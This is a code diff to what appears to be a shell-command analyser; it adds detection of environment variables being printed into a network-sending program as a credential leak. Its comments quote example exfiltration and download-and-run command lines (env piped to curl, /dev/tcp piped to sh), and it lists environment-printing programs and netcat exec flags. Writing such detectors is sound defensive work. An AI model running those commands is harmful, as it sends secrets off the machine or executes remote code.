@@ -79,14 +79,19 @@ def _parse(text: str, cwd: str, home: str) -> tuple[list[dict[str, Any]], list[s
     return facts, unique(walker.unparsed)
 
 
+ENVIRONMENT_PRINTERS = frozenset({"env", "printenv", "set", "export", "declare", "typeset"})
+"""Programs that print the environment (its tokens and keys among it) when given no operands."""
+_SENDS = frozenset({"send", "tunnel"})
 _SOCKET_EXEC = re.compile(r"^(exec|system):", re.I)
 _NC_EXEC = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})
 
 
 def _link_effects(commands: list[Command]) -> None:
     """Effects that only the command line as a whole shows: code run from a program that read the
-    network is downloaded (``cat < /dev/tcp/h/80 | sh``), and a shell or interpreter whose input or
-    output is a socket, or that ``socat``/``nc`` attach to one, is a remote shell."""
+    network is downloaded (``cat < /dev/tcp/h/80 | sh``), a shell or interpreter whose input or
+    output is a socket, or that ``socat``/``nc`` attach to one, is a remote shell, and the
+    environment printed into a program that sends is a credential leaving."""
+    printing = {c.program for c in commands if c.program in ENVIRONMENT_PRINTERS and not c.fact["operands"]}
     fetching = {c.program for c in commands if any(e["kind"] == "network" for e in c.fact["effects"]) and c.program}
     for cmd in commands:
         fact = cmd.fact
@@ -103,3 +108,7 @@ def _link_effects(commands: list[Command]) -> None:
         )
         if (socket and is_interpreter(program)) or attached:
             found.append(effectmod.effect("exec", program, via, source="network", certainty="unknown"))
+        sending = any(e["kind"] == "network" and e["direction"] in _SENDS for e in found)
+        if sending and set(cmd.stdin_from + fact.get("_inputs", [])) & printing:
+            # `env | curl -d @- https://x`, `curl -d "$(env)" https://x`: the environment leaves
+            found.append(effectmod.effect("credential", "env", via, certainty="unknown"))
